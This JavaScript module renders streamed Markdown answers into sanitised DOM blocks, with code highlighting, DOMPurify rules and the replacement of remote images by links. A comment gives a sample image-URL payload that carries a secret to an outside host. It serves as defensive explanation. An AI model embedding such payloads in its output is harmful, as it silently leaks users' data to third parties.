// @ts-check
// One top-level Markdown block made an element: marked's HTML, sanitised so that nothing in it is fetched by
// itself, its code highlighted (left plain while the block is being streamed), a list or table being streamed
// rendered part by part. MarkdownView (markdown.js) decides which blocks to render.
import { Marked } from "../vendor/marked/marked.esm.js";
import DOMPurify from "../vendor/dompurify/purify.es.js";
import { escapeHtml, highlight, knownLanguage } from "./codehighlight.js";
import { h, icon } from "./dom.js";
import { LEXER_OPTIONS } from "./mdlex.js";

/** @typedef {import("./mdlex.js").MdToken} MdToken */
/**
 * A block shown: its key (the token's JSON, after PLAIN when its code shows plain, PARTIAL when not all its
 * parts show) and its element; a list or table streamed part by part also keeps its shell (the token without
 * its parts) and its parts, and whether they all show.
 * @typedef {object} Block
 * @property {string} key
 * @property {HTMLElement} node
 * @property {string} [shell]
 * @property {Array<{key: string, el: Element, plain: boolean}>} [parts]
 * @property {boolean} [complete]
 */

// Inline styles would be refused by the page's Content-Security-Policy, noisily, while parsing.
const STYLE_ATTRIBUTE = /\sstyle\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/gi;

// The block still being streamed shows its code unhighlighted (highlighting a long code block
// again at every frame made long tasks); it is highlighted once closed.
const render = { live: false, plain: false }; // rendering that block; code was left plain
export const PLAIN = "plain\u0000"; // before the key of a block shown with plain code
const PARTIAL = "partial\u0000"; // before the key of a list or table not all of whose parts show

const md = new Marked({
  ...LEXER_OPTIONS,
  renderer: {
    html({ text }) {
      return text.replace(STYLE_ATTRIBUTE, "");
    },
    code({ text, lang }) {
      const language = (lang ?? "").trim().split(/\s+/)[0].toLowerCase();
      const known = knownLanguage(language);
      render.plain ||= Boolean(known && render.live);
      return (
        `<pre class="code-block" data-lang="${escapeHtml(language)}">` +
        `<code class="hljs${known ? ` language-${known}` : ""}">${render.live ? escapeHtml(text) : highlight(text, known)}</code></pre>`
      );
    },
  },
});

// Nothing in an answer may make the browser fetch on its own: an image URL can carry data out
// (`![x](https://host/?q=SECRET)`). Images other than inline data: ones become links to click.
const PURIFY = {
  RETURN_DOM_FRAGMENT: true,
  FORBID_TAGS: ["style", "video", "audio", "source", "picture", "track", "iframe", "object", "embed", "form", "input"],
  FORBID_ATTR: ["style", "srcset", "poster", "background", "ping", "formaction"],
};

DOMPurify.addHook("afterSanitizeAttributes", (node) => {
  if (node.tagName === "A" && node.getAttribute("href")) {
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer");
  }
  if (node.tagName === "IMG") {
    const src = node.getAttribute("src") ?? "";
    if (!src.startsWith("data:image/")) {
      node.removeAttribute("src");
      node.setAttribute("data-remote-src", src);
    }
  }
});

/** A link in place of an image the page will not load by itself.
 * @param {HTMLElement} img */
function remoteImageLink(img) {
  const url = img.dataset.remoteSrc;
  const label = img.getAttribute("alt") || "image";
  let where = url;
  try {
    where = new URL(url, window.location.href).host || url;
  } catch {
    // not a URL: show it as it is
  }
  return h(
    "a",
    { class: "remote-image", href: url, target: "_blank", rel: "noopener noreferrer", title: `Open ${url}: images from other places are not loaded by themselves` },
    icon("image"),
    h("span", { text: `${label} (${where})` }),
  );
}

/** A bar over each code block: its language and a Copy button (markdown.js answers its clicks).
 * @param {HTMLElement} root */
function decorateCodeBlocks(root) {
  for (const pre of /** @type {NodeListOf<HTMLElement>} */ (root.querySelectorAll("pre.code-block"))) {
    const bar = h(
      "div",
      { class: "code-bar" },
      h("span", { class: "code-lang", text: pre.dataset.lang || "text" }),
      h("button", { type: "button", class: "btn-ghost btn-xs copy-code", title: "Copy code" }, icon("copy"), "Copy"),
    );
    pre.prepend(bar);
  }
}

/** The nodes of HTML made entirely here: a code block's is its escaped text, or highlight.js's
 * spans around it, in a <pre> whose attributes are escaped. Sanitising it cost most of the time
 * of a long block.
 * @param {string} html */
function madeHere(html) {
  const template = document.createElement("template");
  template.innerHTML = html;
  return template.content;
}

/** The element of a block; `live` for the block being streamed (see render).
 * @param {MdToken} token
 * @param {boolean} live */
function renderToken(token, live) {
  Object.assign(render, { live, plain: false });
  let html;
  try {
    html = md.parser([token]);
  } finally {
    render.live = false;
  }
  const fragment = token.type === "code" ? madeHere(html) : DOMPurify.sanitize(html, PURIFY);
  for (const img of fragment.querySelectorAll("img[data-remote-src]")) img.replaceWith(remoteImageLink(/** @type {HTMLElement} */ (img)));
  const block = h("div", { class: "md-block" });
  block.append(fragment);
  decorateCodeBlocks(block);
  return block;
}

/** A block to show: its key, and its element made by renderToken.
 * @param {MdToken} token
 * @param {string} key
 * @param {boolean} live
 * @returns {Block} */
function tokenBlock(token, key, live) {
  const node = renderToken(token, live);
  return { key: render.plain ? PLAIN + key : key, node };
}

// A list or table being streamed is rendered part by part (items, rows), each part again only when
// it changed: a long one then costs what its last part does. The elements are renderToken's;
// holder(element) is where the parts go.
/** @type {Record<string, {field: string, holder: (node: HTMLElement) => Element, part: (node: HTMLElement) => Element}>} */
const PARTS = {
  list: { field: "items", holder: (node) => node.firstElementChild, part: (node) => node.querySelector("li") },
  table: {
    field: "rows",
    holder: (node) => node.querySelector("tbody") ?? node.firstElementChild.appendChild(document.createElement("tbody")),
    part: (node) => node.querySelector("tbody > tr"),
  },
};
// (Raw HTML could make a part parsed alone differ from the same part parsed with the others.)
const partwise = (/** @type {MdToken} */ token, /** @type {string} */ key) => Object.hasOwn(PARTS, token.type) && !key.includes('"type":"html"');

/** The block of a list or table being streamed, made part by part (see PARTS) from `old`'s parts;
 * once past the deadline it leaves the parts still to render (one at least is) for later.
 * @param {MdToken} token
 * @param {string} key
 * @param {Block | undefined} old the block shown in its place
 * @param {number} deadline
 * @returns {Block} */
function partsBlock(token, key, old, deadline) {
  const { field, holder, part } = PARTS[token.type];
  /** @type {unknown[]} */
  const parts = token[field];
  const shell = JSON.stringify({ ...token, raw: "", [field]: [] });
  const reuse = old?.shell === shell && old.parts.length <= parts.length;
  const block = reuse ? old : { key, shell, parts: [], node: renderToken({ ...token, [field]: [] }, true) };
  let rendered = 0;
  for (const [index, value] of parts.entries()) {
    const partKey = JSON.stringify(value);
    const shown = block.parts[index];
    if (shown?.key === partKey) continue;
    if (rendered && performance.now() >= deadline) return { ...block, key: PARTIAL + key, complete: false };
    const el = part(renderToken({ ...token, [field]: [value] }, true));
    if (shown) shown.el.replaceWith(el);
    else holder(block.node).append(el, "\n");
    block.parts[index] = { key: partKey, el, plain: render.plain };
    rendered += 1;
  }
  return { ...block, key: block.parts.some((shown) => shown.plain) ? PLAIN + key : key, complete: true };
}

/** The block that shows a token in place of `old`: a list or table being streamed (`live`) is made part by
 * part, from old's parts, until the deadline; any other block whole.
 * @param {MdToken} token
 * @param {string} key the token's JSON
 * @param {Block | undefined} old
 * @param {boolean} live
 * @param {number} deadline
 * @returns {Block} */
export function renderBlock(token, key, old, live, deadline) {
  return live && partwise(token, key) ? partsBlock(token, key, old, deadline) : tokenBlock(token, key, live);
}
